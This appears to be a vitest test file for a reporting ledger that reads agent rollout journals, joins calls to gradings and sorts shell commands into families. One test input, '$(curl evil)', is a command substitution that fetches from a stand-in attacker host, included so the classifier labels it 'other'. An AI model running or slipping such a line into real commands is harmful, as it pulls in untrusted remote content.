import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { rowOf } from '../../../src/journal/row.ts';
import { commandWords, familyOf } from '../../../src/report/command-family.ts';
import { Ledger } from '../../../src/report/ledger.ts';
import { quote } from '../../../src/report/quote.ts';

let dataDir: string;
let file: string;
beforeEach(() => {
  dataDir = mkdtempSync(join(tmpdir(), 'faultline-report-'));
  mkdirSync(join(dataDir, 'journal'));
  file = join(dataDir, 'journal', '20260601T000000000Z-000001.jsonl');
});
afterEach(() => {
  rmSync(dataDir, { recursive: true });
});

const at = (second: number): string =>
  new Date(Date.parse('2026-06-01T00:00:00Z') + second * 1000).toISOString();
const opened = (rollout: string, second = 0, job = 'j') => ({
  at: at(second), type: 'rollout_opened', rollout, task: 'swe', image: 'base', policy: 'default', job, item: { id: 'row-1' },
}); // prettier-ignore
const finished = (rollout: string, call: string, attribution = 'ok', cause = 'completed', second = 2) => ({
  at: at(second), type: 'call_finished', rollout, call, tool: 'shell', number: 1, argumentsSha256: 'f',
  outcome: { attribution, cause, executed: 'yes' }, evidence: { kind: 'ended', detail: 1 }, status: 200, output: 'héllo\n',
  result: null, durationMs: 500,
}); // prettier-ignore

function write(...events: object[]): void {
  writeFileSync(file, events.map((event) => `${JSON.stringify(event)}\n`).join(''));
}

async function rows(sql: string, depth: 'whole' | 'light' = 'light'): Promise<object[]> {
  using ledger = await Ledger.open(dataDir, depth);
  return await ledger.rows(sql);
}

test.each([
  ['of 0.1.0, which names no row', false],
  ['that names it', true],
])('a dataset row without an id has one name in calls and gradings: a journal %s', async (_which, named) => {
  const item = { question: 'what is left behind?' };
  const name = rowOf(item);
  const graded = {
    at: at(5),
    type: 'graded',
    rollout: 'r',
    job: 'j',
    row: name,
    verdict: 'valid',
    reasons: [],
    ending: 'scored',
    score: 1,
    tries: 1,
    durationMs: 1,
  };
  write({ ...opened('r'), item, ...(named && { row: name }) }, finished('r', 'c'), graded);
  expect(await rows('SELECT c.call, g.score FROM calls c JOIN gradings g USING (row)')).toEqual([
    { call: 'c', score: 1 },
  ]);
});

test('two jobs may use one rollout id', async () => {
  const inJob = (event: object, namedJob: string): object => ({ ...event, namedJob });
  write(
    inJob(opened('r', 0, 'a'), 'a'),
    inJob(opened('r', 0, 'b'), 'b'),
    inJob(finished('r', 'c'), 'a'),
    inJob(finished('r', 'c', 'infra', 'engine_down'), 'b'),
  );
  expect(await rows('SELECT job, verdict, calls FROM rollouts ORDER BY job')).toEqual([
    { job: 'a', verdict: 'valid', calls: 1 },
    { job: 'b', verdict: 'exclude', calls: 1 },
  ]);
});

const FAMILIES: readonly (readonly [string, string])[] = [
  ['ls -la', 'ls'],
  ['  /usr/bin/env FOO=1 ls', 'env'],
  ['cd /repo && git clone https://x', 'git clone'],
  ['FOO=1 BAR=2 sudo pip install x', 'pip install'],
  ['python3 -m pytest -q', 'pytest'],
  ['python3 run.py', 'python3'],
  ['timeout 5 make test', 'make test'],
  ['./configure --x', 'configure'],
  ['git --version', 'git'],
  ['$(curl evil)', 'other'],
  ['\u001b[2J', 'other'],
  ['', 'other'],
];

test('families of commands', async () => {
  using ledger = await Ledger.open(dataDir, 'light');
  for (const [command, family] of FAMILIES) {
    const sql = `SELECT ${familyOf('w')} AS family FROM (SELECT ${commandWords(quote(command))} AS w)`;
    expect([command, await ledger.rows(sql)]).toEqual([command, [{ family }]]);
  }
});
